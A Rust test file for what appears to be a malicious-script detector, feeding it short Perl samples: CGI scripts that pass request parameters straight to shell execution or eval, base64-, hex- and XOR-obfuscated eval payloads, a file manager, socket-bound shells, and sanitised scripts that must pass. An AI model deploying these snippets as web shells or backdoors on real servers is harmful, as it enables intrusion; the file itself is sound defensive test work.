use crate::Language::Perl;
use crate::language::flow::tests::{
    assert_found, assert_silent, base64, codes, filled, hex, judged,
};

#[test]
fn cgi_programs_are_found() {
    assert_found(
        Perl,
        &[
            "my $r = $ENV{‹query›}; chomp($r); $r =~ s/%20/ /g; my @c = ‹tick›$r‹tick›;",
            "use CGI; my $q = new CGI; my $c = $q->param('c'); open(F, \"$c 2>&1 |\"); print while <F>;",
            "use CGI qw(param); sub x { $y = $_[0]; print ‹tick›$y 2>&1‹tick›; } x(param('x'));",
            "use CGI; my $c = CGI->new->param('c'); ‹perlsystem›('/bin/sh', '-c', $c) if defined $c;",
            "use CGI; eval CGI::param('code');",
            "read(STDIN, my $b, $ENV{CONTENT_LENGTH}); $b =~ tr/+/ /; print qx{$b};",
            "$c = <STDIN>; $c = d($c); ‹perlsystem›(\"$c 2>&1\"); sub d { my($s) = @_; $s =~ s/%(..)/pack('C', hex($1))/ge; \
             return $s; } print 'Content-type: text/html';",
            "use Plack::Request; my $app = sub { my $env = shift; my $r = Plack::Request->new($env); ‹tick›@{[$r->param('c')]}‹tick› };",
            "&ReadParse(*in); open(P, \"cd $in{'d'}; $in{'c'} |\");",
        ],
    );
}

#[test]
fn input_that_a_script_parses_itself_is_followed() {
    assert_found(
        Perl,
        &[
            "sub ReadParse { local(*in) = @_ if @_; if ($ENV{'REQUEST_METHOD'} eq \"GET\") { $in = $ENV{'‹query›'}; }\n\
             @in = split(/&/, $in); foreach $i (0 .. $#in) { ($k, $v) = split(/=/, $in[$i], 2);\n\
             $v =~ s/%(..)/pack(\"c\", hex($1))/ge; $in{$k} .= $v; } }\n\
             sub Run { $c = \"cd \\\"$d\\\"\" . $sep . $in{'c'}; print ‹tick›$c‹tick›; }\n\
             $sep = ($nt ? \"&\" : \";\"); &ReadParse; $d = $in{'d'}; &Run;",
            "%F = parse($ENV{'‹query›'}); open(C, \"($F{'cmd'}) 2>&1 |\");\nsub parse ($) { my %r; my $i = shift;\n\
             foreach my $p (split('&', $i)) { my ($k, $v) = split('=', $p, 2); $r{$k} = $v; } return %r; }",
            "package S; sub new { my ($c, %a) = @_; my $s = { cmd => $a{cmd} }; return bless $s, $c; }\n\
             sub run { my $s = shift; ‹tick›$s->{cmd}‹tick› } package main; S->new(cmd => $ENV{HTTP_X})->run;",
            "my ($c) = $ENV{‹query›} =~ /c=(.*)/; open my $p, '-|', $c;",
        ],
    );
}

#[test]
fn hidden_code_is_opened() {
    let plain = filled("print ‹tick›$ENV{‹query›}‹tick›;");
    let scripts = [
        format!("eval pack('H*', '{}');", hex(&plain)),
        format!(
            "use MIME::Base64; eval(decode_base64('{}'));",
            base64(&plain)
        ),
        format!(
            "eval join '', map {{ chr }} ({});",
            codes(&plain, |byte| byte)
        ),
        format!(
            "eval join('', map {{ chr($_ ^ 9) }} ({}));",
            codes(&plain, |byte| byte ^ 9)
        ),
        format!(
            "eval reverse '{}';",
            plain.chars().rev().collect::<String>()
        ),
        format!(
            "$z = '{}'; $z =~ s/Z//g; eval $z;",
            plain.replace('E', "ZE")
        ),
    ];
    for script in scripts {
        let verdict = judged(Perl, &script);
        assert!(verdict.score > 90, "{script} {verdict:?}");
    }
    assert_found(Perl, &["use CGI; $_ = CGI::param('c'); s/(.*)/$1/ee;"]);
}

#[test]
fn files_and_shells_of_connections_are_found() {
    assert_found(
        Perl,
        &[
            "use CGI; $p = param('p'); opendir(D, $p); unlink $p if param('r'); open(F, \">$p\"); print F param('d');",
            "use Socket; socket(S, 1, 1, 1); connect(S, $a); open(STDIN, \">&S\"); exec('/bin/sh -i');",
            "use IO::Socket; my $s = IO::Socket::INET->new(Listen => 1); while ($c = $s->accept()) { while (<$c>) { \
             ‹tick›$_‹tick› } }",
        ],
    );
}

#[test]
fn ordinary_scripts_are_silent() {
    assert_silent(
        Perl,
        &[
            "use CGI; my $h = param('h'); ‹perlsystem›('ping', '-c', '1', $h);",
            "use CGI; my $h = param('h'); if ($h =~ /^([\\w.-]+)$/) { $h = $1; print ‹tick›$h‹tick›; }",
            "use CGI; my $h = param('h'); $h =~ s/[^a-z]//g; print ‹tick›$h‹tick›;",
            "use CGI; my $h = quotemeta(param('h')); ‹perlsystem›(\"$h\");",
            "use CGI; my %c = (a => 'ls', b => 'id'); ‹perlsystem›($c{param('c')});",
            "use CGI; my $h = param('h'); print ‹tick›nslookup $h‹tick›;",
            "use CGI; open(F, '<', '/etc/motd'); print <F>; print param('x');",
            "‹perlsystem›(@ARGV); my $x = $ENV{‹query›};",
            "=pod\n\nprint ‹tick›$ENV{‹query›}‹tick›;\n\n=cut\n\nprint 1; # ‹tick›$ENV{‹query›}‹tick›\n",
            "open(STDIN, '</dev/null'); open(STDERR, \">&STDOUT\"); exec('/bin/sh -i'); use Socket;",
        ],
    );
}

#[test]
fn texts_in_lines_below_are_passed() {
    let script = "print <<A, <<'B';\n$ENV{‹query›}\nA\n‹tick›$ENV{‹query›}‹tick›\nB\nprint 1;";
    assert_silent(Perl, &[script]);
    assert_found(
        Perl,
        &[&format!("{script}\nprint ‹tick›$ENV{{‹query›}}‹tick›;")],
    );
}
